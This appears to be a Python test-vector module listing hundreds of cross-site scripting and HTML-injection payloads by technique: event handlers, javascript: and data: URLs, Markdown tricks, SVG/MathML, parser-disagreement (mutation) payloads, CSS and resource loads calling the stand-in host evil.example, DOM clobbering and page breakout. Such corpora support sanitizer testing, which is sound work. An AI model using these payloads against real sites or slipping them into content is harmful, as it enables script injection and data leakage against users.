"""Bodies that try to run a script, call elsewhere or break out of the page, by technique, one to a line.

`pwn()` is what a script would do, evil.example whom it would call. ⏎, ⇥ and ␀ stand for a line's end, a tab and NUL.
"""

TECHNIQUES = {
    "script elements": r"""
<script>pwn()</script>
<SCRIPT>pwn()</SCRIPT>
<ScRiPt type="text/javascript">pwn()</sCrIpT >
<script src="https://evil.example/a.js"></script>
<script src=//evil.example/b.js></script>
<script/x>pwn()</script/x>
<script⏎>pwn()</script⏎>
<script type=module>pwn()</script>
<script>⏎<!--⏎pwn()⏎//-->⏎</script>
<<script>pwn()//<</script>
<script>pwn()
<scr<script>ipt>pwn()</scr</script>ipt>
<p><script>pwn()</script></p>
<script type=importmap>{"imports":{"a":"https://evil.example/c.js"}}</script>
<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/s"]}]}</script>
""",
    "event handlers": r"""
<img src=x onerror=pwn()>
<img src=x onerror="pwn()">
<img src=x onerror='pwn()'>
<IMG SRC=x ONERROR=pwn()>
<img/src="x"/onerror=pwn()>
<img src=x onerror⏎=⏎pwn()>
<img src=x ⇥onerror⇥=⇥pwn()>
<img src="x" title="a"onerror=pwn()>
<img src=x alt=">" onerror=pwn()>
<img src=/assets/icon.svg onload=pwn()>
<p onclick=pwn()>text</p>
<p onmouseover=pwn()>text</p>
<a href=# onclick=pwn()>text</a>
<details open ontoggle=pwn()><summary>s</summary>t</details>
<details onclick=pwn()><summary onclick=pwn()>s</summary>t</details>
<video src=x onerror=pwn()></video>
<audio src=x onerror=pwn()></audio>
<video><source onerror=pwn() src=x></video>
<picture><img src=x onerror=pwn()></picture>
<body onload=pwn()>
<p onpointerover=pwn() onfocus=pwn() tabindex=1 autofocus>text</p>
<input autofocus onfocus=pwn()>
<select autofocus onfocus=pwn()><option>a</select>
<textarea autofocus onfocus=pwn()>a</textarea>
<div contenteditable autofocus onfocus=pwn()>a</div>
<p onanimationstart=pwn() style=animation:x>text</p>
<p ontransitionend=pwn()>text</p>
<table onclick=pwn()><td onclick=pwn()>cell</table>
<img src=x onerror="&#112;&#119;&#110;&#40;&#41;">
<img src=x onerror=pwn`1`>
<marquee onstart=pwn()>text</marquee>
<img src onerror=pwn()>
<image src=x onerror=pwn()>
<input type=image src=x onerror=pwn()>
<style onload=pwn()></style>
<link rel=stylesheet href=/assets/site.css onload=pwn()>
<iframe onload=pwn()></iframe>
<video src=x onloadstart=pwn()></video>
<audio src=x onloadstart=pwn()></audio>
<body onpageshow=pwn()>
<b onclick=pwn()>text</b>
<label onclick=pwn()>text</label>
<a href=# onfocus=pwn()>text</a>
<ol onclick=pwn()><li>text</ol>
<time onclick=pwn()>text</time>
<figure onmouseover=pwn()><figcaption>text</figcaption></figure>
<p oncontentvisibilityautostatechange=pwn() style=content-visibility:auto>text</p>
""",
    "addresses that are scripts": r"""
<a href="javascript:pwn()">x</a>
<a href="JaVaScRiPt:pwn()">x</a>
<a href=" javascript:pwn()">x</a>
<a href="java⏎script:pwn()">x</a>
<a href="java⇥script:pwn()">x</a>
<a href="&#106;avascript:pwn()">x</a>
<a href="&#x6A;&#x61;vascript:pwn()">x</a>
<a href="javascript&colon;pwn()">x</a>
<a href="java&Tab;script:pwn()">x</a>
<a href="java&NewLine;script&colon;pwn()">x</a>
<a href="&#1;javascript:pwn()">x</a>
<a href="javascript://evil.example/%0Apwn()">x</a>
<a href="javascript:void(0);pwn()">x</a>
<a href="data:text/html,<script>opener.pwn()</script>" target=_blank>x</a>
<a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:pwn()">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="view-source:javascript:pwn()">x</a>
<a href="feed:javascript:pwn()">x</a>
<area href="javascript:pwn()" shape=default>
<map name=m><area shape=rect coords=0,0,99,99 href=javascript:pwn()></map><img usemap=#m src=/assets/icon.svg>
<iframe src="javascript:parent.pwn()"></iframe>
<img src="javascript:pwn()">
<img srcset="javascript:pwn() 1x, javascript:pwn() 2x" src=/assets/icon.svg>
<form action="javascript:pwn()"><button>x</button></form>
<form id=f></form><button form=f formaction="javascript:pwn()">x</button>
<form><input type=submit formaction="javascript:pwn()" value=x></form>
<object data="javascript:pwn()"></object>
<embed src="javascript:pwn()">
<blockquote cite="javascript:pwn()">x</blockquote>
<video poster="javascript:pwn()"></video>
<base href="javascript:pwn()//"><a href="#x">x</a>
<a xlink:href="javascript:pwn()">x</a>
<a href="javascript:pwn()" href="https://good.example/">x</a>
""",
    "Markdown": r"""
[x](javascript:pwn())
[x](JAVASCRIPT:pwn())
[x](<javascript:pwn()>)
[x](javascript&colon;pwn())
[x](java&Tab;script:pwn())
[x]( javascript:pwn() "title")
[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)
![x](javascript:pwn())
![x" onerror="pwn()](x)
![x](x" onerror="pwn())
![x](x 'y" onerror="pwn()')
[x](https://good.example/" onclick="pwn())
<javascript:pwn()>
[x][1]⏎⏎[1]: javascript:pwn()
[x][1]⏎⏎[1]: https://good.example/ "a\" onclick=\"pwn()"
`<img src=x onerror=pwn()>` <img src=x onerror=pwn()>
```html"><script>pwn()</script>⏎x⏎```
<a href="`javascript:pwn()`">x</a>
**<script>**pwn()**</script>**
| a |⏎|---|⏎| <img src=x onerror=pwn()> |
> <script>⏎> pwn()⏎> </script>
* <svg onload=pwn()>
&lt;script&gt;pwn()&lt;/script&gt;
\<script>pwn()\</script>
""",
    "SVG and MathML": r"""
<svg onload=pwn()></svg>
<svg/onload=pwn()>
<svg><script>pwn()</script></svg>
<svg><script href="https://evil.example/d.js"></script></svg>
<svg><script>&#112;wn()</script></svg>
<svg><a href="javascript:pwn()"><text y=20>x</text></a></svg>
<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values=javascript:pwn() /><text y=20>x</text></a></svg>
<svg><set attributeName=onload to=pwn()></set></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>pwn()</script></svg>#x"></svg>
<svg><image href="https://evil.example/e.png"/></svg>
<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>
<svg><style>*{background:url(https://evil.example/f)}</style><rect width=9 height=9 /></svg>
<svg><feImage href="https://evil.example/g"/></svg>
<svg><desc><img src=x onerror=pwn()></desc></svg>
<svg><title><img src=x onerror=pwn()></title></svg>
<math><mtext><img src=x onerror=pwn()></mtext></math>
<math href="javascript:pwn()">x</math>
<math><maction actiontype=statusline xlink:href="javascript:pwn()">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>
""",
    "parsers that disagree": r"""
<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">
<svg></p><style><a id="</style><img src=x onerror=pwn()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>
<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=pwn() src>">
<svg><p><style><g title="</style><img src=x onerror=pwn()>">
<style><!--</style><img src=x onerror=pwn()>--></style>
<textarea><p title="</textarea><img src=x onerror=pwn()>">
<title><p title="</title><img src=x onerror=pwn()>">
<xmp><p title="</xmp><img src=x onerror=pwn()>">
<noembed><p title="</noembed><img src=x onerror=pwn()>">
<noframes><p title="</noframes><img src=x onerror=pwn()>">
<iframe><p title="</iframe><img src=x onerror=pwn()>">
<template><img src=x onerror=pwn()></template>
<template shadowrootmode=open><img src=x onerror=pwn()></template>
<select><template><img src=x onerror=pwn()></template></select>
<select><style></select><img src=x onerror=pwn()></style>
<table><a><tr><td><img src=x onerror=pwn()></table>
<p><svg><p></svg><style><!--<img src=x onerror=pwn()></style>
<!--><img src=x onerror=pwn()>-->
<!--!><img src=x onerror=pwn()>
<!-- --!><img src=x onerror=pwn()>
<!---><img src=x onerror=pwn()>
<![CDATA[><img src=x onerror=pwn()>]]>
<!DOCTYPE x [<!ENTITY e "<img src=x onerror=pwn()>">]>&e;
<?xml version="1.0"?><?x ><img src=x onerror=pwn()>?>
</br title="<img src=x onerror=pwn()>"><img src=x onerror=pwn()>
<img src="x` `<script>pwn()</script>"` `>
<img title=`><img src=x onerror=pwn()>`>
<a title="<!--"><img src=x onerror=pwn()><a title="-->">
<im␀g src=x onerror=pwn()>
<img src=x on␀error=pwn()>
<scr␀ipt>pwn()</scr␀ipt>
<img src=x onerror=pwn()//
<%<!--'%><script>pwn();</script -->
<x onclick=pwn()>text</x>
<custom-element is=x onclick=pwn()>text</custom-element>
""",
    "styles": r"""
<style>body{background:url(https://evil.example/h)}</style>
<style>@import "https://evil.example/i.css";</style>
<style>#content,main{display:none}</style>
<p style="background:url(https://evil.example/j)">x</p>
<p style="background-image:image-set('https://evil.example/k' 1x)">x</p>
<p style="position:fixed;inset:0;z-index:9;background:red">x</p>
<p style="margin-top:-5000px;position:relative">x</p>
<p style="width:expression(pwn())">x</p>
<p style="list-style:url(https://evil.example/l);display:list-item">x</p>
<p style="content:url(https://evil.example/m)">x</p>
<p style="cursor:url(https://evil.example/n),auto">x</p>
<link rel=stylesheet href="https://evil.example/o.css">
<style>@font-face{font-family:f;src:url(https://evil.example/p)}main{font-family:f}</style>
<table background="https://evil.example/q"><td background="https://evil.example/r">x</table>
<body background="https://evil.example/s">
<div class="masthead skip ticker" id=content>x</div>
""",
    "what calls elsewhere": r"""
<iframe src="https://evil.example/1"></iframe>
<iframe srcdoc="<img src=https://evil.example/2>"></iframe>
<iframe srcdoc="<script>parent.pwn()</script>"></iframe>
<object data="https://evil.example/3"></object>
<object type=text/html data="data:text/html,<script>parent.pwn()</script>"></object>
<embed src="https://evil.example/4">
<frameset><frame src="https://evil.example/5"></frameset>
<portal src="https://evil.example/6"></portal>
<link rel=prefetch href="https://evil.example/7">
<link rel=preload as=image href="https://evil.example/8">
<link rel=modulepreload href="https://evil.example/9">
<link rel=icon href="https://evil.example/10">
<link rel=manifest href="https://evil.example/11" crossorigin>
<meta http-equiv=refresh content="0;url=https://evil.example/12">
<meta http-equiv=refresh content="0;url=javascript:pwn()">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href="https://evil.example/"><img src=13.png>
<input type=image src="https://evil.example/14">
<video><track default src="https://evil.example/15"></video>
<a href=# ping="https://evil.example/16">x</a>
<form action="https://evil.example/17"><button>x</button></form>
<button form=newsletter formaction="https://evil.example/18">x</button>
<isindex action="https://evil.example/19">
<applet code=x codebase="https://evil.example/20"></applet>
<img src=/assets/icon.svg attributionsrc="https://evil.example/21">
<img src=/assets/icon.svg lowsrc="https://evil.example/22" dynsrc="https://evil.example/23">
<menu><a href=/ attributionsrc="https://evil.example/24">x</a></menu>
""",
    "breaking out of the page": r"""
</div></article></main></div></body></html><h1>gone</h1>
</main><main id=content>second
<plaintext>
<textarea>
<select>
<title>
<xmp>
<noscript>
<!--
<table><tr><td>
</table></tr></td></tbody>
<form action=/x><form>
</form><form id=newsletter-email>
<dialog open>x</dialog>
<p popover id=p>x</p><button popovertarget=p>x</button>
<h1>second headline</h1>
<p id=newsletter-email name=content>x</p>
<img name=getElementById src=x><form name=body></form>
<a id=document></a><a id=fetch href=x></a>
<b><b><b><b><b><b><b><b><i><i><i><u><u><a href=/>
<div dir=rtl><bdo dir=rtl>
<p>&#x202E;txet
<p>&#x2066;&#x2067;&#x202A;text
""",
}


def vectors() -> list[tuple[str, str]]:
    """Each vector after the name of its technique."""
    signs = str.maketrans({"⏎": "\n", "⇥": "\t", "␀": "\x00"})
    lines = [(technique, line) for technique, block in TECHNIQUES.items() for line in block.strip().split("\n")]
    return [(technique, line.translate(signs)) for technique, line in lines]
